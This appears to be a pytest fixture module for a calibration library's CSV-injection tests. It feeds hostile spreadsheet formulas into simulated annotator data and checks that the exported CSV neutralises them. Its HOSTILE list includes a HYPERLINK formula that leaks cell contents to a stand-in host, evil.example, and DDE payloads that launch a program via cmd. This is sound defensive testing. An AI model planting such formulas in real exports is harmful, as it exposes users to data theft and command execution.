"""Hostile cells (spreadsheet formulas) and a round full of them, for the CSV-injection tests (library, CLI).

Its fixture `hostile_round` reaches every test through ``pytest_plugins`` in tests/conftest.py.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from calibration.csv_cells import FORMULA_STARTS

ROOT = Path(__file__).resolve().parents[1]
GUIDELINE = ROOT / "guidelines" / "contract-clauses" / "1.0.0.yaml"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe(text: str) -> None:
    """No cell of the CSV `text` starts like a formula, numbers aside."""
    runnable = [cell for cell in _cells(text) if cell.startswith(FORMULA_STARTS) and not _number(cell)]
    assert runnable == []


@pytest.fixture(scope="module")
def hostile_round():
    """contract-clauses 1.0.0 with simulated answers whose annotators and comments are HOSTILE cells:
    (guideline, responses, item_rules, gold)."""
    from calibration.demo import simulate_responses
    from calibration.guidelines.loading import load_guideline
    from calibration.responses import item_rules_frame

    guideline = load_guideline(GUIDELINE)
    responses = simulate_responses(guideline, annotators=len(HOSTILE), seed=1)
    names = dict(zip(sorted(responses["annotator_id"].unique()), HOSTILE, strict=True))
    responses["annotator_id"] = responses["annotator_id"].map(names)
    responses["comment"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(responses))]
    item_rules = item_rules_frame({item.id: item.rules for item in guideline.items})
    gold = pd.Series({item.id: item.answer for item in guideline.items if item.answer is not None})
    return guideline, responses, item_rules, gold
